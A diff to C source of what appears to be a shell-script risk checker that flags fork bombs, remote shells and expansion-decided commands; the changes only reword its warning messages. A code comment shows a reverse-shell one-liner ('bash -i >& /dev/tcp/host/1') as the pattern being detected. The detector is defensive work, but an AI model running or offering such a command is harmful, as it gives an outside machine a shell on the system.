@@ -98,7 +98,7 @@ check_bomb(struct risk_state *st, const struct risk_frame *f,
     if (many)
         risk_say(st, RISK_DESTRUCTIVE, risk_from(f, node->from),
                  risk_to(f, node->to), f->function,
-                 "starts itself again and again until nothing else runs");
+                 "starts itself without end (fork bomb)");
 }
 
 /* A shell whose terminal is somewhere else: bash -i >& /dev/tcp/host/1 */
@@ -115,7 +115,7 @@ check_remote_shell(struct risk_state *st, const struct risk_frame *f,
     for (size_t i = 0; p && i < p->n_rules; i++)
         if (program_rules(p)[i].verb == PROGRAM_INPUT) {
             risk_say_opaque(st, risk_from(f, node->from), risk_to(f, node->to),
-                            "another machine gets a shell here");
+                            "gives another machine a shell here");
             return;
         }
 }
@@ -157,7 +157,7 @@ walk_call(struct risk_state *st, const struct risk_frame *f,
     if (args.n == 0) {
         if (node->words)
             risk_say_opaque(st, risk_from(f, node->from), risk_to(f, node->to),
-                            "what runs is decided by an expansion");
+                            "cannot tell what runs: an expansion decides");
         risk_variable_restore(&st->settings, settings);
         return;
     }
@@ -405,8 +405,7 @@ risk_walk(struct risk_state *st, const struct risk_frame *f)
         st->directory = directory;
     if (!f->body && f->syntax->fault)
         risk_say_opaque(st, risk_from(f, f->syntax->fault_at),
-                        risk_to(f, f->syntax->fault_at),
-                        "no shell could read it to its end");
+                        risk_to(f, f->syntax->fault_at), "syntax error");
 }
 
 void
@@ -417,10 +416,10 @@ risk_walk_text(struct risk_state *st, const struct risk_frame *f,
 
     if (!known)
         risk_say_opaque(st, f->from, f->to,
-                        "runs a text that an expansion decides");
+                        "runs the result of an expansion as code");
     if (f->depth >= RISK_NEST_MAX) {
         risk_say_opaque(st, f->from, f->to,
-                        "texts are nested too deep to be read");
+                        "texts are nested too deeply to check");
         return;
     }
     inner.outer = f;
